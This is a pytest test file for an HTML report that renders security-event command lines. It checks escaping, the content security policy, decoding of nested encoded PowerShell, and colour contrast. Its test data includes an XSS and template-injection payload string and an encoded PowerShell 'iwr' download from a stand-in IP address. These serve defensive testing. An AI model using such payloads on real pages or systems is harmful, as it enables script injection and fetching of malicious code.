import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app import report
from app.sample import SAMPLE
from app.spl import table
from app.spl.table import Table
from tests.encoding import b64

FIELD = "ParentCommandLine"
HOSTILE = "</pre><script>alert(1)</script><img src=x onerror=alert(1)>'\"&{{ 7*7 }}"
VOID = {"meta", "br"}


class Page(HTMLParser):
    """Reads a page: its elements, its text, and whether each element ends where it should."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.marks: list[str] = []
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data
        if self.open and self.open[-1] == "mark":
            self.marks.append(data)

    def count(self, tag: str) -> int:
        return sum(name == tag for name, _ in self.elements)


def page(rows: list[list[str]], columns: tuple[str, ...] = (FIELD,), title: str = "t") -> Page:
    return Page(report.render(Table(list(columns), rows), FIELD, title))


def test_hostile_text_is_text_everywhere() -> None:
    columns = (
        "host",
        FIELD,
        "predicted_decode_status",
        "predicted_ioc_c2",
        HOSTILE,
        "predicted_y<b>",
    )
    hidden = f"powershell -enc {b64(HOSTILE)}"
    shown = page([[HOSTILE] * 6, [HOSTILE, hidden, *[HOSTILE] * 4]], columns, HOSTILE)
    tags = {tag for tag, _ in shown.elements}
    assert not tags & {"script", "img", "a", "link", "iframe", "form", "object", "b"}
    assert shown.text.count(HOSTILE) >= 12
    attributes = {name for _, attrs in shown.elements for name in attrs}
    assert attributes <= {
        *("lang", "charset", "name", "content", "http-equiv", "class", "title", "role", "open"),
        *("aria-label", "tabindex", "scope", "colspan"),
    }


def test_page_forbids_to_load_anything() -> None:
    html = report.render(Table([FIELD], []), FIELD, "t")
    assert (
        "Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'\""
        in html
    )
    assert "url(" not in html
    assert "@import" not in html


def test_every_event_of_the_sample_has_its_row() -> None:
    events = table.read(SAMPLE.read_text("utf-8"))
    shown = Page(report.render(events, FIELD, "t"))
    assert (shown.count("tbody"), shown.count("table")) == (40, 1)
    for row in events.rows:
        assert all(cell.replace("\r\n", "\n") in shown.text for cell in row)


def test_layers_are_a_tree_with_marked_indicators() -> None:
    inner = f"powershell -enc {b64('iwr http://192.0.2.1/a')}"
    shown = page([[f"powershell -enc {b64(inner)}"]])
    trees = [name for name, _ in shown.elements if name in ("ul", "li", "mark")]
    assert trees == ["ul", "li", "ul", "li", "mark"]
    assert shown.marks == ["http://192.0.2.1/a"]


def test_long_text_is_cut_and_says_so() -> None:
    shown = page([["x" * 50_000]])
    assert "x" * 20_000 in shown.text
    assert "x" * 20_001 not in shown.text
    assert "... and 30,000 more characters" in shown.text


def test_controls_and_marks_of_direction_are_visible() -> None:
    assert "a␛[31m�b" in page([["a\x1b[31m\u202eb"]]).text


def test_event_without_command_line_has_nothing_to_unfold() -> None:
    assert page([[""]]).count("details") == 0


@pytest.mark.parametrize(
    ("text", "kinds", "parts"),
    [
        ("", {}, []),
        ("plain", {"x.example.com": "domain"}, [("plain", "")]),
        (
            "get HTTP://A.example.com/x, a.example.com",
            {"http://a.example.com/x": "url", "a.example.com": "domain"},
            [
                ("get ", ""),
                ("HTTP://A.example.com/x", "url"),
                (", ", ""),
                ("a.example.com", "domain"),
            ],
        ),
        ("1.1.1.1", {"1.1": "a", "1.1.1.1": "b"}, [("1.1.1.1", "b")]),
        ("a(b", {"a(b": "url"}, [("a(b", "url")]),
        ("x" * 300, {"x" * 300: "url"}, [("x" * 300, "")]),
    ],
)
def test_pieces(text: str, kinds: dict[str, str], parts: list[tuple[str, str]]) -> None:
    assert [(piece.text, piece.kind) for piece in report.pieces(text, kinds)] == parts


@given(st.text("ab.İK", max_size=30), st.dictionaries(st.text("abİK", min_size=1), st.just("k")))
def test_pieces_make_the_text(text: str, kinds: dict[str, str]) -> None:
    assert "".join(piece.text for piece in report.pieces(text, kinds)) == text


def test_colours_have_the_contrast_that_wcag_asks_for() -> None:
    html = report.render(Table([FIELD], []), FIELD, "t")
    light, dark = (
        dict(re.findall(r"--(\w+): (#\w{6});", block))
        for block in re.findall(r":root \{(.*?)\}", html, re.DOTALL)
    )
    for theme in (light, dark):
        for text in ("text", "quiet", "good", "warn", "bad"):
            assert contrast(theme[text], theme["page"]) >= 4.5, text
        assert contrast(theme["text"], theme["mark"]) >= 4.5
        assert contrast(theme["text"], theme["code"]) >= 4.5


def contrast(one: str, other: str) -> float:
    """https://www.w3.org/TR/WCAG22/#dfn-contrast-ratio"""
    dark, light = sorted((luminance(one), luminance(other)))
    return (light + 0.05) / (dark + 0.05)


def luminance(colour: str) -> float:
    parts = [int(colour[start : start + 2], 16) / 255 for start in (1, 3, 5)]
    linear = [p / 12.92 if p <= 0.04045 else ((p + 0.055) / 1.055) ** 2.4 for p in parts]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]
